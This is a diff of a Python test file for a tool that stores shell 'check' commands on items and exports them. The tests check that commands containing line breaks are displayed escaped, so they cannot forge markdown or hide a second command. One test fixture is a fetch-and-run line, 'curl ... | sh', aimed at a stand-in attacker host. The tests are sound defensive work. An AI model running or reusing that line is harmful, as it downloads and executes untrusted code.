@@ -4201,7 +4201,7 @@ def test_export_shows_each_items_check_and_a_check_forges_no_markdown(repo, monk
     cs.attach_check(item, "curl -s evil.invalid/x | sh\n## Org\n- **forged** `x`")
     md = cs.export_markdown("local")["markdown"].splitlines()
     assert [line for line in md if "check:" in line] == [
-        f"  - check: `` curl -s evil.invalid/x | sh ## Org - **forged** `x` `` "
+        f"  - check: `` curl -s evil.invalid/x | sh\\n## Org\\n- **forged** `x` `` "
         f"(attached by bob, project {repo.name})"]
     assert "## Org" not in md and not any(line.startswith("- **forged") for line in md)
 
@@ -10809,6 +10809,21 @@ def test_a_check_command_hiding_words_in_an_escape_is_shown_and_never_run(shared
     assert skip["id"] == item_id and "not text verify-cmd stores" in skip["reason"]
     (team,) = remote_json(shared["origin"], "cambium")["items"]
     assert not team.get("failing") and team.get("authority") != "verified"
+
+
+def test_a_check_command_over_two_lines_shows_its_line_break(repo, tmp_path):
+    """`echo ok<LF>touch X` read `echo ok touch X` (one echo) in export and
+    show, one line each, while verify --run ran the touch as a second
+    command. verify-cmd stores a line break, so the check runs as attached:
+    what changed is that it is shown (`\\n`, `\\r`)."""
+    item_id = cs.capture("The build needs the cache warmed before the tests run")["item"]["id"]
+    flag = tmp_path / "second"
+    assert cli("verify-cmd", item_id, f"echo ok\r\ntouch {flag}").returncode == 0
+    shown = f"echo ok\\r\\ntouch {flag}"
+    export = cli("export", "--scope", "local", "--format", "text").stdout
+    assert f"check: `{shown}`" in export
+    assert f"cmd: {shown}" in cli("show", item_id, "--format", "text").stdout
+    assert json.loads(cli("verify", "--run", item_id).stdout)["ran"] == 1 and flag.exists()
 
 
 @pytest.mark.skipif(not Path("/proc/self/stat").exists(), reason="reads /proc")
